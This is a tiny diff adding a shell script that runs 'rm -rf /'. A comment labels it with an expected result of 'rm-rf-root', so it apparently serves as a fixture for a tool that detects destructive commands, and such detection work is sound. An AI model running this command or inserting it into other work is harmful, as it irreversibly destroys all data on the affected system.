@@ -1,0 +1,4 @@
+#!/bin/sh
+#! assess-corpus: expect=rm-rf-root
+set -e
+rm -rf /
